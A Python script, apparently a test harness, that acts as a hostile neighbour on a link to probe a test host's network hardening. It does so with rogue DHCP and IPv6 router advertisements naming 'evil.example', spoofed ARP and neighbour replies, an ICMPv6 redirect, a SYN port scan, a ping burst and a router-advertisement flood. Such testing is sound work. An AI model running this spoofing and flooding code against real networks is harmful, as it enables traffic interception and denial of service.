# SPDX-License-Identifier: MIT
# neighbour.py INTERFACE SECONDS: a neighbour who wants to be the network of whoever asks, in the network namespace that it is
# started in: answers DHCP, advertises itself as a router, redirects, forges from afar, knocks. Prints a line "NAME: WHAT" for
# each thing that it found out, "done" at the end, and waits to be ended, for its end of the cable goes with it.
import fcntl, socket, struct, sys, threading, time

interface, patience, prefix = sys.argv[1], int(sys.argv[2]), "fd00:a5::"
server, victim = "10.9.0.1", "10.9.0.7"
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
raw.bind((interface, 0))
ifreq = fcntl.ioctl(raw.fileno(), 0x8927, interface.encode().ljust(40, b"\0"))  # SIOCGIFHWADDR
mac = ifreq[18:24]
local = "fe80::1"
seen = {"mac": None, "fe80": None}


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip6(source, target, protocol, payload, hops, at):
    """Fills in the checksum, of two bytes at @at."""
    s, t = socket.inet_pton(socket.AF_INET6, source), socket.inet_pton(socket.AF_INET6, target)
    pseudo = s + t + struct.pack("!II", len(payload), protocol)
    payload = payload[:at] + struct.pack("!H", checksum(pseudo + payload)) + payload[at + 2 :]
    to = b"\x33\x33" + t[12:] if t[0] == 0xFF else seen["mac"] or b"\xff" * 6
    return to + mac + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(payload), protocol, hops) + s + t + payload


def ip4(source, target, protocol, payload, to):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return to + mac + b"\x08\x00" + head + payload


def dhcp_answer(request):
    kind = 2 if b"\x35\x01\x01" in request[240:] else 5
    option = lambda n, data: bytes([n, len(data)]) + data
    name = lambda text: b"".join(bytes([len(part)]) + part for part in text.split(b".")) + b"\0"
    options = b"".join([
        option(53, bytes([kind])), option(54, socket.inet_aton(server)), option(51, struct.pack("!I", 600)),
        option(1, b"\xff\xff\xff\0"), option(3, socket.inet_aton(server)), option(6, socket.inet_aton(server)),
        option(12, b"owned"), option(15, b"evil.example"), option(119, name(b"search.example")),
        option(42, socket.inet_aton("10.9.0.66")), option(26, struct.pack("!H", 68)), option(100, b"EST5"), option(101, b"Asia/Tokyo"),
        b"\xff"])
    body = (struct.pack("!BBBB", 2, 1, 6, 0) + request[4:12] + b"\0\0\0\0" + socket.inet_aton(victim) + socket.inet_aton(server) +
            b"\0\0\0\0" + request[28:44] + bytes(192) + request[236:240] + options)
    udp = struct.pack("!HHHH", 67, 68, 8 + len(body), 0) + body
    return ip4(server, "255.255.255.255", 17, udp, b"\xff" * 6)


def advertisement(network, hop_limit, dns, more=()):
    """A router advertisement (RFC 4861, 4.2): prefixes, MTU, DNS server and domain (RFC 8106)."""
    p = lambda text: socket.inet_pton(socket.AF_INET6, text)
    return (struct.pack("!BBHBBHII", 134, 0, 0, hop_limit, 0, 1800, 0, 0) + b"\x01\x01" + mac +
            struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 1800, 900, 0) + p(network) +
            struct.pack("!BBHI", 25, 3, 0, 1800) + p(dns) +
            struct.pack("!BBHI", 31, 3, 0, 1800) + b"\x04evil\x07example\0\0\0" +
            b"".join(struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 1800, 900, 0) + p(other) for other in more))


def redirect(target, better):
    p = lambda text: socket.inet_pton(socket.AF_INET6, text)
    return struct.pack("!BBHI", 137, 0, 0, 0) + p(better) + p(target) + b"\x02\x01" + mac


def neighbour_advertisement(solicited):
    return struct.pack("!BBHI", 136, 0, 0, 0xE0000000) + socket.inet_pton(socket.AF_INET6, solicited) + b"\x02\x01" + mac


def listen():
    while True:
        frame = raw.recv(4096)
        if frame[6:12] == mac:
            continue
        if frame[12:14] == b"\x08\x00" and frame[23] == 17 and frame[36:38] == b"\0\x43":
            seen["mac"] = frame[6:12]
            raw.send(dhcp_answer(frame[42:]))
        elif frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\x01" and frame[38:42] == socket.inet_aton(server):
            raw.send(frame[6:12] + mac + frame[12:20] + b"\0\x02" + mac + socket.inet_aton(server) + frame[22:32])
        elif frame[12:14] == b"\x86\xdd" and frame[22:24] == b"\xfe\x80":
            seen["mac"], seen["fe80"] = frame[6:12], socket.inet_ntop(socket.AF_INET6, frame[22:38])
        if frame[12:14] == b"\x86\xdd" and frame[20] == 58 and frame[54] == 135 and frame[62:78] == socket.inet_pton(socket.AF_INET6, local):
            raw.send(ip6(local, socket.inet_ntop(socket.AF_INET6, frame[22:38]), 58, neighbour_advertisement(local), 255, 2))
        if frame[12:14] == b"\x86\xdd" and frame[20] == 58 and frame[54] == 129:
            replies6.append(1)
        if frame[12:14] == b"\x08\x00" and frame[23] == 1 and frame[34] == 0:
            replies4.append(1)
        if frame[12:14] == b"\x08\x00" and frame[23] == 6 and frame[34 + 13] == 0x12:
            open4.add(struct.unpack("!H", frame[34:36])[0])
        if frame[12:14] == b"\x08\x00" and frame[23] in (1, 17) and frame[34] == 3:
            unreachable.append(1)


def tcp_syn(port):
    head = struct.pack("!HHIIBBHHH", 40000, port, 1, 0, 5 << 4, 2, 1024, 0, 0)
    pseudo = socket.inet_aton(server) + socket.inet_aton(victim) + struct.pack("!BBH", 0, 6, len(head))
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


def until(condition, seconds):
    end = time.time() + seconds
    while time.time() < end and not condition():
        time.sleep(0.1)
    return condition()


replies4, replies6, unreachable, open4 = [], [], [], set()
threading.Thread(target=listen, daemon=True).start()
print("asks:", "yes" if until(lambda: seen["mac"] and seen["fe80"], patience) else "no", flush=True)
if not (seen["mac"] and seen["fe80"]):
    print("done", flush=True)
    time.sleep(600)
for _ in range(3):
    raw.send(ip6(local, "ff02::1", 58, advertisement(prefix, 1, local), 255, 2))
    # from behind a router: not a neighbour's word; and a router that is no link's own
    raw.send(ip6("fe80::2", "ff02::1", 58, advertisement("fd00:bad::", 64, "fd00:bad::53"), 254, 2))
    raw.send(ip6("fd00:bad::1", "ff02::1", 58, advertisement("fd00:bad1::", 64, "fd00:bad1::53"), 255, 2))
    time.sleep(1)
raw.send(ip6(local, seen["fe80"], 58, redirect("fd00:77::1", "fe80::66"), 255, 2))
for port in list(range(1, 1025)) + [22] * 3:
    raw.send(ip4(server, victim, 6, tcp_syn(port), seen["mac"]))
    time.sleep(0.2 if port == 22 else 0.001)
for port in (53, 68, 111, 123, 5353, 5355):
    raw.send(ip4(server, victim, 17, struct.pack("!HHHH", 40000, port, 8, 0), seen["mac"]))
for source, port in ((547, 546), (5000, 546), (547, 5355)):
    raw.send(ip6(local, seen["fe80"], 17, struct.pack("!HHHH", source, port, 8, 0), 64, 6))
time.sleep(1)
print("open:", *sorted(open4), flush=True)
print("told about closed ports:", len(unreachable), flush=True)
started = time.time()
for i in range(1000):
    echo = struct.pack("!BBHHH", 8, 0, 0, 7, i)
    raw.send(ip4(server, victim, 1, echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:], seen["mac"]))
    raw.send(ip6(local, seen["fe80"], 58, struct.pack("!BBHHH", 128, 0, 0, 7, i), 64, 2))
time.sleep(1)
took = time.time() - started
print("echoes:", *("few" if 10 < len(r) < 60 + 60 * took and len(r) < 800 else len(r) for r in (replies4, replies6)), flush=True)
for i in range(20):  # before the rate is used up
    more = ["fd00:e%03x:%x::" % (i, j) for j in range(38)]
    raw.send(ip6(local, "ff02::1", 58, advertisement("fd00:e%03x::" % i, 64, local, more), 255, 2))
for i in range(500):
    raw.send(ip6(local, "ff02::1", 58, advertisement("fd00:f%03x::" % i, 64, local), 255, 2))
    time.sleep(0.001)
time.sleep(1)
print("done", flush=True)
time.sleep(600)
